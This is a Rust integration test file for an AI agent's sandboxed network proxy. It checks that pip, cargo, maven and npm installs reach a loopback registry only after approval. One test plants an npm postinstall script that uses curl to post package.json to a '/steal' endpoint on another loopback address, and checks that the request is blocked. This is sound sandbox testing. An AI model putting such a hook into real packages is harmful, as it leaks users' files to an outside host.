//! Real package managers through the proxy of a session. The registries are files at another address of the loopback
//! device: the host is asked about once, allowed, and listed with the command.

#![cfg(target_os = "linux")]
#![allow(clippy::disallowed_methods, reason = "tests make their own files and processes")]

use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde_json::{Value, json};
use trimtab_testkit::program::Program;
use trimtab_testkit::provider::{Answer, Reply};

/// The address of the registry, and the one that a package must not reach.
const REGISTRY: &str = "127.0.0.2";
const ELSEWHERE: &str = "127.0.0.3";

fn program() -> Program {
    let mut program = Program::new(env!("CARGO_BIN_EXE_trimtab"));
    let folder = program.project().canonicalize().expect("a folder");
    program.set("TRIMTAB_FOLDERS_TRUSTED", folder.to_str().expect("a path"));
    program
}

/// The files of a registry, served outside of the sandbox.
struct PackageHost {
    server: Child,
    folder: PathBuf,
    /// Where it is reached.
    at: String,
}

impl PackageHost {
    fn start(program: &Program) -> Self {
        let folder = program.project().with_file_name("registry");
        std::fs::create_dir_all(&folder).expect("a folder");
        let port = TcpListener::bind((REGISTRY, 0)).expect("a port").local_addr().expect("an address").port();
        let mut server = Command::new("python3");
        server.args(["-m", "http.server", &port.to_string(), "--bind", REGISTRY, "--directory"]).arg(&folder);
        let server = server.stdout(Stdio::null()).stderr(Stdio::null()).spawn().expect("a server");
        while TcpStream::connect((REGISTRY, port)).is_err() {
            std::thread::sleep(Duration::from_millis(20));
        }
        Self { server, folder, at: format!("http://{REGISTRY}:{port}") }
    }

    /// Makes its files with a script.
    fn make(&self, program: &str, script: &str) -> String {
        let made = Command::new(program).args(["-c", script]).current_dir(&self.folder).output().expect("a program");
        assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
        String::from_utf8_lossy(&made.stdout).trim().to_owned()
    }
}

impl Drop for PackageHost {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
    }
}

/// Has the model run a command that needs the registry, allows it and then the host, and returns how it ended.
fn installed(program: &Program, command: &str) -> Value {
    let input = json!({"command": command, "timeout_s": 300});
    let reply = Reply::new().text(["I run it."]).tool("toolu_1", "run_command", [input.to_string()]);
    program.provider.push(Answer::anthropic(reply));
    program.provider.push(Answer::anthropic(Reply::new().text(["Installed."])));
    let asked = program.run(&["run", "--json", "--trust", "install it"]);
    assert_eq!(asked.code, Some(3), "the command asks: {} {}", asked.stdout, asked.stderr);
    let hosts = program.run(&["answer", "allow", "--json"]);
    assert_eq!(hosts.code, Some(3), "its hosts are asked about: {} {}", hosts.stdout, hosts.stderr);
    let question = hosts.events().into_iter().rfind(|event| event["type"] == "checkpoint.opened").expect("a question");
    // The answer is about the port that was shown, because the address is not public.
    let granted = question["granted"].to_string();
    assert!(granted.starts_with(&format!("[\"{REGISTRY}:")) && !granted.contains(','), "{question}");
    let ended = program.run(&["answer", "allow", "--json"]);
    assert_eq!(ended.code, Some(0), "there is no further question: {} {}", ended.stdout, ended.stderr);
    let finished = ended.events().into_iter().rfind(|event| event["type"] == "command.finished").expect("its end");
    assert_eq!(finished["exitCode"], 0, "{finished}");
    let hosts = finished["hosts"].as_array().expect("hosts");
    assert!(hosts.iter().any(|host| host["host"] == REGISTRY && host["outcome"] == "reached"), "{finished}");
    finished
}

fn text(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|error| panic!("{}: {error}", path.display()))
}

#[test]
fn pip_installs_a_package_from_a_host_that_was_asked_about_once() {
    let program = program();
    let host = PackageHost::start(&program);
    host.make(
        "python3",
        r#"
import os, zipfile
os.makedirs("simple/small")
with zipfile.ZipFile("simple/small/small-1.0.0-py3-none-any.whl", "w") as wheel:
    wheel.writestr("small.py", "print('small was installed')\n")
    info = "small-1.0.0.dist-info/"
    wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: small\nVersion: 1.0.0\n")
    wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    wheel.writestr(info + "RECORD", "small.py,,\n" + info + "METADATA,,\n" + info + "WHEEL,,\n" + info + "RECORD,,\n")
name = "small-1.0.0-py3-none-any.whl"
open("simple/small/index.html", "w").write(f'<a href="{name}">{name}</a>')
"#,
    );
    // The interpreter itself: what stands for it in the path may be a script that writes in the home folder.
    let python = host.make("python3", "import sys; print(sys.executable)");
    let command = format!(
        "{python} -m pip install -q --disable-pip-version-check --no-cache-dir --retries 0 --trusted-host {REGISTRY} \
         -i {}/simple --target deps small && PYTHONPATH=deps {python} -m small",
        host.at
    );
    let finished = installed(&program, &command);
    assert!(finished["preview"].as_str().expect("a text").contains("small was installed"), "{finished}");
    assert!(text(&program.project().join("deps/small.py")).contains("small was installed"));
}

#[test]
fn cargo_fetches_a_crate_from_a_host_that_was_asked_about_once() {
    let program = program();
    let host = PackageHost::start(&program);
    let hash = host.make(
        "sh",
        "set -e; mkdir -p small-1.0.0/src index/sm/al; echo 'pub fn small() {}' > small-1.0.0/src/lib.rs; \
         printf '[package]\\nname = \"small\"\\nversion = \"1.0.0\"\\nedition = \"2021\"\\n' > small-1.0.0/Cargo.toml; \
         tar -czf small-1.0.0.crate small-1.0.0; sha256sum small-1.0.0.crate | cut -d' ' -f1",
    );
    let entry = json!({"name": "small", "vers": "1.0.0", "deps": [], "cksum": hash, "features": {}, "yanked": false});
    std::fs::write(host.folder.join("index/sm/al/small"), format!("{entry}\n")).expect("a file");
    let dl = format!("{}/{{crate}}-{{version}}.crate", host.at);
    std::fs::write(host.folder.join("index/config.json"), json!({ "dl": dl }).to_string()).expect("a file");
    let project = program.project();
    std::fs::create_dir_all(project.join("src")).expect("a folder");
    std::fs::write(project.join("src/lib.rs"), "").expect("a file");
    let manifest = "[package]\nname = \"user\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
                    [dependencies]\nsmall = { version = \"1\", registry = \"local\" }\n\n[workspace]\n";
    std::fs::write(project.join("Cargo.toml"), manifest).expect("a file");
    // The toolchain's own program: the one of rustup looks for toolchains in the home folder, which is another one here.
    let command = format!(
        "RUSTC={} CARGO_NET_RETRY=0 {} fetch --config 'registries.local.index=\"sparse+{}/index/\"'",
        Path::new(env!("CARGO")).with_file_name("rustc").display(),
        env!("CARGO"),
        host.at
    );
    installed(&program, &command);
    assert!(text(&project.join("Cargo.lock")).contains(&hash));
    let found = |folder: &Path| {
        let found = Command::new("find").arg(folder).args(["-name", "lib.rs"]).output().expect("find");
        String::from_utf8_lossy(&found.stdout).contains("small-1.0.0/src/lib.rs")
    };
    // The crate is in the layer of the project. The user's own cache, which the sandbox guards, is as it was.
    assert!(found(&program.home().join("caches")));
    assert!(!found(&program.home().with_file_name(".cargo")));
}

#[test]
fn maven_asks_about_the_host_that_it_needs() {
    if Command::new("mvn").arg("--version").output().is_err() {
        return eprintln!("skipped: Maven is not installed");
    }
    let program = program();
    let pom = "<project><modelVersion>4.0.0</modelVersion><groupId>a</groupId><artifactId>a</artifactId><version>1</version></project>";
    std::fs::write(program.project().join("pom.xml"), pom).expect("a file");
    // Java takes the home folder from the account, which is another one here.
    let home = program.home();
    let command = format!("mvn -q -Duser.home={} compile", home.parent().expect("a home folder").display());
    let input = json!({"command": command, "timeout_s": 300});
    let reply = Reply::new().tool("toolu_1", "run_command", [input.to_string()]);
    program.provider.push(Answer::anthropic(reply));
    let asked = program.run(&["run", "--json", "--trust", "build it"]);
    assert_eq!(asked.code, Some(3), "the command asks: {} {}", asked.stdout, asked.stderr);
    let hosts = program.run(&["answer", "allow", "--json"]);
    let question = hosts.events().into_iter().rfind(|event| event["type"] == "checkpoint.opened");
    let question = question.unwrap_or_else(|| panic!("a question: {} {}", hosts.stdout, hosts.stderr));
    assert_eq!(question["granted"], json!(["repo.maven.apache.org"]), "{question}");
}

#[test]
fn a_postinstall_script_that_tries_another_host_is_stopped_and_told() {
    let program = program();
    let host = PackageHost::start(&program);
    let other = TcpListener::bind((ELSEWHERE, 0)).expect("a port");
    other.set_nonblocking(true).expect("a socket");
    let steal = format!(
        "curl -fsS -m 9 -d @package.json http://{ELSEWHERE}:{}/steal || true",
        other.local_addr().expect("an address").port()
    );
    let manifest = json!({"name": "small", "version": "1.0.0", "scripts": {"postinstall": steal}});
    std::fs::create_dir_all(host.folder.join("package")).expect("a folder");
    std::fs::write(host.folder.join("package/package.json"), manifest.to_string()).expect("a file");
    host.make("sh", "tar -czf small-1.0.0.tgz package");
    let listed = json!({"name": "small", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {"name": "small",
        "version": "1.0.0", "hasInstallScript": true, "scripts": {"postinstall": steal},
        "dist": {"tarball": format!("{}/small-1.0.0.tgz", host.at)}}}});
    std::fs::write(host.folder.join("small"), listed.to_string()).expect("a file");
    std::fs::write(program.project().join("package.json"), r#"{"name":"user","version":"1.0.0"}"#).expect("a file");
    let command = format!(
        "npm install --no-audit --no-fund --foreground-scripts --fetch-retries 0 --registry {}/ small",
        host.at
    );
    let finished = installed(&program, &command);
    assert!(program.project().join("node_modules/small/package.json").exists());
    let blocked = |outcome: &Value| outcome["host"] == ELSEWHERE && outcome["outcome"] == "no_rule";
    assert!(finished["hosts"].as_array().expect("hosts").iter().any(blocked), "{finished}");
    assert!(other.accept().is_err(), "nobody came");
    let requests = program.provider.requests();
    let told = requests.last().expect("a request").body["messages"].to_string();
    assert!(told.contains(&format!("Network: blocked {ELSEWHERE}")), "{told}");
}
